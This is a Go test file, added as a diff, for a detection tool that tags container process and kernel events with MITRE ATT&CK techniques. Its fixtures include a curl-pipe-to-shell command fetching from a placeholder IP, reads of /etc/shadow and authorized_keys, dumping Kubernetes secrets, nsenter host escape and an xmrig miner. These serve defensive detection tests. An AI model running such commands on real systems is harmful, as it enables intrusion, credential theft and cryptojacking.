@@ -0,0 +1,148 @@
+package eventtype
+
+import (
+	"strings"
+	"testing"
+)
+
+func techniques(tags []*AttackTag) string {
+	var ids []string
+	for _, tag := range tags {
+		ids = append(ids, tag.Technique)
+	}
+	return strings.Join(ids, ",")
+}
+
+func TestDefaultAttackMapping(t *testing.T) {
+	mapping := DefaultAttackMapping()
+	if mapping.Version == "" || mapping.AttackVersion == "" {
+		t.Errorf("mapping version = %q, ATT&CK version = %q; want both set", mapping.Version, mapping.AttackVersion)
+	}
+	if tags := mapping.Tags(mapping.Deviations[DeviationHostNamespace]); len(tags) == 0 {
+		t.Errorf("no technique for %s", DeviationHostNamespace)
+	}
+}
+
+func TestParseAttackMappingRejectsUnknownTechniques(t *testing.T) {
+	_, err := ParseAttackMapping([]byte(`{
+		"tactics": {"Execution": "TA0002"},
+		"techniques": {"T1059.004": {"name": "Unix Shell", "tactics": ["Execution", "Impact"]}},
+		"binaries": {"sh": ["T1059.004"], "xmrig": ["T1496"]},
+		"arguments": [{"pattern": "(", "techniques": ["T1059.004"]}],
+		"ports": {"http": ["T1059.004"]}
+	}`))
+	if err == nil {
+		t.Fatal("ParseAttackMapping() accepted an invalid mapping")
+	}
+	for _, want := range []string{`unknown tactic "Impact"`, `unknown technique "T1496"`, `invalid pattern "("`, `invalid port "http"`} {
+		if !strings.Contains(err.Error(), want) {
+			t.Errorf("error %q does not mention %s", err, want)
+		}
+	}
+}
+
+func TestAttackMappingTagProcess(t *testing.T) {
+	mapping := DefaultAttackMapping()
+
+	tests := []struct {
+		binary    string
+		arguments string
+		want      string
+	}{
+		{"/bin/bash", "-c curl -fsSL http://203.0.113.7/x | sh", "T1059.004,T1105"},
+		{"/usr/bin/whoami", "", "T1033"},
+		{"/usr/bin/base64", "-d payload.b64", "T1140"},
+		{"/usr/local/bin/kubectl", "get secrets -A", "T1609,T1613"},
+		{"/usr/sbin/nginx", "-g daemon off;", ""},
+	}
+	for _, tt := range tests {
+		got := techniques(mapping.TagProcess(&Process{Binary: tt.binary, Arguments: tt.arguments}))
+		if got != tt.want {
+			t.Errorf("TagProcess(%s %s) = %q; want %q", tt.binary, tt.arguments, got, tt.want)
+		}
+	}
+}
+
+func TestAttackMappingTagKernelBehavior(t *testing.T) {
+	mapping := DefaultAttackMapping()
+
+	tests := []struct {
+		name     string
+		behavior *KernelBehavior
+		want     string
+	}{
+		{"shadow", &KernelBehavior{Kind: KernelBehaviorFile, Function: "security_file_open", File: &FileBehavior{Path: "/etc/shadow"}}, "T1003.008"},
+		{"authorized keys", &KernelBehavior{Kind: KernelBehaviorFile, Function: "security_file_permission", File: &FileBehavior{Path: "/root/.ssh/authorized_keys"}}, "T1098.004"},
+		{"ptrace syscall", &KernelBehavior{Kind: KernelBehaviorPtrace, Function: "__x64_sys_ptrace", Ptrace: &PtraceBehavior{Request: 16}}, "T1055.008"},
+		{"module hook", &KernelBehavior{Kind: KernelBehaviorModule, Function: "security_kernel_module_request", Module: &ModuleBehavior{Name: "nf_tables"}}, "T1547.006"},
+		{"stratum port", &KernelBehavior{Kind: KernelBehaviorNetwork, Function: "tcp_connect", Network: &NetworkBehavior{Family: "AF_INET", DestinationPort: 3333}}, "T1496"},
+		{"exec of a miner", &KernelBehavior{Kind: KernelBehaviorExec, Function: "security_bprm_check", Exec: &ExecBehavior{Path: "/tmp/xmrig"}}, "T1496"},
+		{"https", &KernelBehavior{Kind: KernelBehaviorNetwork, Function: "tcp_connect", Network: &NetworkBehavior{Family: "AF_INET", DestinationPort: 443}}, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := techniques(mapping.TagKernelBehavior(tt.behavior)); got != tt.want {
+				t.Errorf("TagKernelBehavior() = %q; want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSinkEventTagsProfileAndDeviations(t *testing.T) {
+	cluster := NewCluster("test-cluster")
+
+	mustSink(t, cluster, newTestEvent("default", "/usr/sbin/nginx", "/usr/bin/id", "", withNamespaces(LinuxNamespaces{"mnt": {Inum: 100}})))
+	result := mustSink(t, cluster, newTestEvent("default", "/bin/sh", "/usr/bin/nsenter", "", withNamespaces(LinuxNamespaces{"mnt": {Inum: 2, IsHost: true}})))
+
+	container := cluster.Namespaces["namespace:default"].Pods["pod:nginx"].Containers["container:nginx"]
+	nginx := container.Processes[(&Process{Binary: "/usr/sbin/nginx"}).GetKey()]
+	if nginx == nil || len(nginx.Attack) != 0 {
+		t.Fatalf("nginx = %+v; want an untagged process", nginx)
+	}
+	id := nginx.ChildProcesses[(&Process{Binary: "/usr/bin/id"}).GetKey()]
+	if id == nil || techniques(id.Attack) != "T1033" || id.Attack[0].Tactics[0] != "Discovery" {
+		t.Errorf("id = %+v; want T1033 in Discovery", id)
+	}
+
+	if len(result.Deviations) != 1 {
+		t.Fatalf("deviations = %v; want the host mnt namespace", result.Deviations)
+	}
+	deviation := result.Deviations[0]
+	if strings.Join(deviation.Techniques, ",") != "T1611" || strings.Join(deviation.Tactics, ",") != "Privilege Escalation" {
+		t.Errorf("deviation techniques = %v, tactics = %v; want T1611 in Privilege Escalation", deviation.Techniques, deviation.Tactics)
+	}
+}
+
+func TestClusterRegistryFindAttack(t *testing.T) {
+	registry := NewClusterRegistry("default-cluster")
+	mustSink(t, registry, newTestEvent("default", "/bin/sh", "/usr/bin/whoami", "", withImage("nginx"), withSource(&EventSource{ClusterName: "prod"})))
+	mustSink(t, registry, newTestEvent("default", "/bin/sh", "/usr/bin/curl", "", withImage("nginx"), withSource(&EventSource{ClusterName: "staging"})))
+	mustSink(t, registry, newTestKernelEvent(&KernelBehavior{Kind: KernelBehaviorFile, Function: "security_file_open", File: &FileBehavior{Path: "/etc/shadow"}},
+		withSource(&EventSource{ClusterName: "staging"})))
+
+	tests := []struct {
+		query string
+		want  []string
+	}{
+		// The shell parent of every test event is tagged with T1059.004.
+		{"discovery", []string{"prod /usr/bin/whoami T1033"}},
+		{"TA0006", []string{"staging /usr/bin/app T1003.008"}},
+		{"T1059", []string{"prod /bin/sh T1059.004", "staging /bin/sh T1059.004"}},
+		{"T1105", []string{"staging /usr/bin/curl T1105"}},
+		{"T1059.006", nil},
+	}
+	for _, tt := range tests {
+		var got []string
+		for _, usage := range registry.FindAttack(tt.query) {
+			got = append(got, usage.Cluster+" "+usage.Binary+" "+usage.Tag.Technique)
+		}
+		if strings.Join(got, ";") != strings.Join(tt.want, ";") {
+			t.Errorf("FindAttack(%q) = %v; want %v", tt.query, got, tt.want)
+		}
+	}
+
+	usages := registry.FindAttack("T1003")
+	if len(usages) != 1 || !strings.HasPrefix(usages[0].Behavior, "kernel:") {
+		t.Errorf("FindAttack(T1003) = %+v; want the kernel behaviour", usages)
+	}
+}